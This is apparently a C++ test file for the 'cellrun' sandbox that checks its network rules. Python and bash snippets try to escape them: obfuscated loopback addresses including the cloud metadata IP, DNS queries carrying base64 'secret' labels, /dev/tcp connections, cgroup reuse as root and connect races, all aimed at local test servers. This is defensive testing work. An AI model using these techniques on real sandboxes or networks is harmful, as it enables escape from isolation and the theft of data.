// SPDX-License-Identifier: Apache-2.0
// F and G: out over the network, past a rule. One port of the host's loopback is let out, another
// one is not; what reaches that one is counted by who listens there.
#include <gmock/gmock.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <thread>

#include "tests/escape/escape.h"
#include "tests/support/server.h"

namespace cellrun::test {
namespace {

Words Attack_(const char* name, const std::string& good, const std::string& evil) {
  return {Escape::Program("escape_network"), name, good, evil};
}
std::string Letting(Escape& escape, const std::string& port) {
  return escape.WriteProfile(
      "cellrun: 1\nname: network\nextends: [base]\ncommands: {default: allow}\nnetwork:\n"
      "  rules:\n    - {to: host, ports: [" +
      port + "], then: allow}\n");
}

void Streams(Escape& escape) {
  const Server good(Server::Say("good")), evil(Server::Say("evil"));
  int seen = 0;
  escape.Try({.argv = Attack_("streams", good.port_text(), evil.port_text()),
              .profile = Letting(escape, good.port_text()),
              .prepare = [&] { seen = evil.accepted(); },
              .damage =
                  [&] {
                    const int more = evil.accepted() - seen;
                    return more == 0 ? "" : std::to_string(more) + " connections";
                  }});
  EXPECT_GT(good.accepted(), 0) << "what is let out must work";
}

void Datagrams(Escape& escape) {
  const Server good(Server::Say("good"));
  DatagramServer evil;
  int seen = 0;
  escape.Try({.argv = Attack_("datagrams", good.port_text(), evil.port_text()),
              .profile = Letting(escape, good.port_text()),
              .prepare = [&] { seen = evil.received(); },
              .damage =
                  [&] {
                    const int came = evil.received() - seen;
                    return came == 0 ? "" : std::to_string(came) + " datagrams";
                  }});
}

void Race_(Escape& escape, const char* kind) {
  const Server good(nullptr), evil(nullptr);
  const long tries = Escape::Iterations();
  const auto argv = [&](long count) {
    Words words = Attack_(kind, good.port_text(), evil.port_text());
    words.push_back(std::to_string(count));
    return words;
  };
  escape.MustWinOnce(argv(2000), [&] { return evil.accepted() > 0; });
  const int shown = evil.accepted(), before = good.accepted();
  Options options = escape.Using(Letting(escape, good.port_text()));
  options.time_limit = std::chrono::seconds(60 + tries / 10);
  const Outcome cell = escape.Run(argv(tries), options);
  EXPECT_EQ(cell.status, 0) << cell;
  EXPECT_GT(good.accepted(), before) << "nothing got out at all: " << cell;
  escape.Count(evil.accepted() - shown, tries);
  escape.Note(cell.out.substr(0, cell.out.find('\n')));
  escape.MustHold(evil.accepted() > shown, cell.out);
}
void AddressRace(Escape& escape) {
  Race_(escape, "address-race");
}
void SocketRace(Escape& escape) {
  Race_(escape, "socket-race");
}

// ---- Addresses and names.

// It cannot tell whether it won (attack.h: kHeld): who listens outside does.
Words Python(const std::string& script, const Words& arguments) {
  Words words = {"python3", "-c", "import os, socket, struct, sys\n" + script + "sys.exit(11)\n"};
  words.insert(words.end(), arguments.begin(), arguments.end());
  return words;
}

// Loopback of the host, however it is written, where everything public is let out.
void Spellings(Escape& escape) {
  const Server evil(nullptr);
  int seen = 0;
  constexpr char kScript[] =
      "for where in ['127.0.0.1', '2130706433', '0x7f.1', '0177.1', '127.1', '0.0.0.0', '::1', "
      "'::',"
      " '::ffff:127.0.0.1', '64:ff9b::7f00:1', '2002:7f00:1::', 'localhost', 'localhost.',"
      " '127.0.0.2', '169.254.169.254', 'host', '198.18.0.1', '198.18.0.0', '198.18.1.0']:\n"
      "  try: socket.create_connection((where, int(sys.argv[1])), 2).close()\n"
      "  except OSError: pass\n";
  escape.Try({.argv = Python(kScript, {evil.port_text()}),
              .profile = escape.WriteProfile("cellrun: 1\nname: open\nextends: [base]\n"
                                             "commands: {default: allow}\n"
                                             "network: {default: allow, rules: [{to: '*', then: "
                                             "allow}]}\n"),
              .prepare = [&] { seen = evil.accepted(); },
              .damage =
                  [&] {
                    const int came = evil.accepted() - seen;
                    return came == 0 ? "" : std::to_string(came) + " connections";
                  }});
}

// A question to a resolver, as the last two attacks ask it.
constexpr char kQuestion[] =
    "def question(name, kind):\n"
    "  labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))\n"
    "  return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', "
    "kind, "
    "1)\n"
    "def ask(where, port, name, kind):\n"
    "  try:\n"
    "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "    s.sendto(question(name, kind), (where, port)); s.settimeout(0.3); s.recv(512)\n"
    "  except OSError: pass\n"
    "  try:\n"
    "    s = socket.create_connection((where, port), 1); q = question(name, kind)\n"
    "    s.sendall(struct.pack('>H', len(q)) + q); s.close()\n"
    "  except OSError: pass\n"
    "port = int(sys.argv[1])\n";

std::string WithResolver(Escape& escape, const DatagramServer& resolver) {
  return escape.WriteProfile(
      "cellrun: 1\nname: names\nextends: [base]\ncommands: {default: allow}\nnetwork:\n"
      "  dns: {upstream: '127.0.0.1:" +
      resolver.port_text() + "'}\n  rules: [{to: git.example.com, then: allow}]\n");
}

void AskOutside(Escape& escape, const std::string& script) {
  DatagramServer resolver;
  int seen = 0;
  escape.Try({.argv = Python(kQuestion + script, {resolver.port_text()}),
              .profile = WithResolver(escape, resolver),
              .prepare = [&] { seen = resolver.received(); },
              .damage =
                  [&] {
                    const int came = resolver.received() - seen;
                    return came == 0 ? "" : std::to_string(came) + " questions";
                  }});
}
void DirectDns(Escape& escape) {
  AskOutside(escape,
             "for where in ['127.0.0.1', 'host', '198.18.0.1', '127.0.0.53']:\n"
             "  for p in [port, 53, 853, 5353]: ask(where, p, 'git.example.com', 1)\n");
}
// The cell's own resolver is the one of resolv.conf; without a cell that is the test's.
void Labels(Escape& escape) {
  AskOutside(
      escape,
      "mine = 'CELLRUN' in os.environ\n"
      "conf = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\n"
      "where, port = (conf[0], 53) if mine else ('127.0.0.1', port)\n"
      "for kind in [1, 28, 16, 10, 15, 255, 5, 12, 33, 65]:\n"
      "  ask(where, port, 'c2VjcmV0%d.git.example.com' % kind, kind)\n"
      "  ask(where, port, 'c2VjcmV0%d.com' % kind, kind)\n"
      "for name in ['c2VjcmV0.git.example.com', 'git.example.com.c2VjcmV0.com']:\n"
      "  try: mine and socket.getaddrinfo(name, 443)\n"
      "  except OSError: pass\n");
}

// A server of the cell that nobody publishes waits for whoever comes from outside.
void Unpublished(Escape& escape) {
  const std::string port = [] {
    const Server gone(nullptr);
    return gone.port_text();
  }();
  std::atomic<int> reached{0};
  std::atomic<bool> stop{false};
  std::thread outside([&] {
    while (!stop) {
      const UniqueFd fd(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
      sockaddr_in to{};
      to.sin_family = AF_INET;
      to.sin_port = htons(static_cast<std::uint16_t>(std::stoi(port)));
      to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      if (connect(fd.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0) ++reached;
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
  });
  escape.Try({.argv = Python("s = socket.socket()\n"
                             "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
                             "s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen(); s.settimeout(2)\n"
                             "try: s.accept()\n"
                             "except OSError: pass\n",
                             {port}),
              .profile = Letting(escape, "1"),
              .prepare = [&] { reached = 0; },
              .damage =
                  [&] {
                    const int came = reached;
                    return came == 0 ? "" : std::to_string(came) + " connections";
                  }});
  stop = true;
  outside.join();
}

// A cell has ended, and somebody makes the place of its second wall again; then another cell comes.
void CgroupReuse(Escape& escape) {
  const Server good(Server::Say("good")), evil(Server::Say("evil"));
  const auto place = [&] {
    const auto cells = nlohmann::json::parse(escape.Cellrun({"ps", "-o", "json"}).out);
    return cells.empty() ? std::string() : cells[0].value("cgroup", "");
  };
  const auto hold = [&](const std::string& port) {
    Options options = escape.Using(Letting(escape, port));
    options.hold_input = true;
    Process cell = escape.Start({"bash", "-c",
                                 "echo up; read line; cat < /dev/tcp/host/$0; cat < "
                                 "/dev/tcp/127.0.0.1/$0; true",
                                 evil.port_text()},
                                options);
    EXPECT_TRUE(cell.WaitForOutput("up\n")) << cell.err();
    return cell;
  };
  escape.ShownBare(Shown::kAsRoot);
  Process first = hold(evil.port_text());
  const std::string left = place();
  first.CloseInput();
  EXPECT_THAT(first.Wait().out, testing::HasSubstr("evil")) << "it may";
  if (Escape::IsRootLane()) {
    const auto removed = std::chrono::steady_clock::now() + std::chrono::seconds(10);
    while (mkdir(left.c_str(), 0755) != 0)
      ASSERT_LT(std::chrono::steady_clock::now(), removed) << "the cell's own is still there";
    const Outcome bare =
        escape.Bare({"bash", "-c", "echo $$ > $0/cgroup.procs; cat < /dev/tcp/127.0.0.1/$1", left,
                     evil.port_text()});
    escape.MustWin(bare.out.starts_with("evil"), bare.err);
  }
  const int seen = evil.accepted();
  Process second = hold(good.port_text());
  escape.MustHold(!left.empty() && place() == left, "two cells have had one cgroup");
  second.CloseInput();
  const Outcome outcome = second.Wait();
  escape.MustHold(evil.accepted() > seen, outcome.out);
  EXPECT_EQ(Escape::IsRootLane() ? rmdir(left.c_str()) : 0, 0) << left;
}

constexpr Case kCases[] = {
    {"F20", "cgroup_reuse", "take the place of a cell that has ended", CgroupReuse},
    {"F1", "denied_streams", "connect to a denied port in every way", Streams},
    {"F4", "denied_datagrams", "send datagrams where no rule says udp", Datagrams},
    {"F5", "address_spellings", "write the host's loopback in every way", Spellings},
    {"F17", "unpublished_listener", "listen for somebody outside", Unpublished},
    {"G1", "direct_dns", "ask resolvers around the cell's own", DirectDns},
    {"G2", "labels", "hide data in names that are asked for", Labels},
    {"F17", "address_race", "flip the port while connect is judged", AddressRace},
    {"F17", "socket_race", "swap the socket while connect is judged", SocketRace},
};
ESCAPE_SUITE(NetworkTest, kCases);

}  // namespace
}  // namespace cellrun::test
